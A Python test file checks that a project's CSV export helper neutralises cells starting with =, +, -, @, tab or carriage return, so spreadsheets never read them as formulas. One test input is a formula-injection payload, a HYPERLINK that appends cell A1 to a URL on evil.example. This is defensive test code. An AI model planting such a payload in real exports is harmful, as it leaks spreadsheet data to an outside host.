"""Cells of every CSV the hub writes for spreadsheets: never read by Excel or WPS as a formula."""

from __future__ import annotations

import pytest

from hub.audit import export as audit_export
from hub.core.spreadsheet import spreadsheet_cell
from hub.disclosure import export as disclosure_export


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?q="&A1,"查看")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"],
)
def test_a_cell_that_starts_like_a_formula_is_quoted(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["《中华人民共和国食品安全法》第一百二十四条", "0.5", "", "a=b", "张三", " =1"])
def test_other_cells_are_unchanged(text: str) -> None:
    assert spreadsheet_cell(text) == text


def test_non_text_values_become_text() -> None:
    assert spreadsheet_cell(3) == "3"
    assert spreadsheet_cell(-3) == "'-3"


def test_both_exports_use_the_one_function() -> None:
    # One home: a second copy of the rule would drift (the audit CSV had its own).
    assert audit_export.spreadsheet_cell is spreadsheet_cell
    assert disclosure_export.spreadsheet_cell is spreadsheet_cell
